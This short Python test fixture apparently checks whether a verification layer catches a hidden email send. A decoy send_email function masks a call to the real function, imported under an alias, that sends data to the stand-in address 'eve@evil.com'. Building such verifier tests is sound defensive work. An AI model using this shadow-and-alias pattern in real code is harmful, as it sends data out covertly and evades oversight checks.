# not proved: send_email is redefined after it was imported, and the real one is called by its alias
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import log
from tools.desk.trusted.effects import send_email as real


def send_email(a, b):
    log("x")


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    real("eve@evil.com", "x")
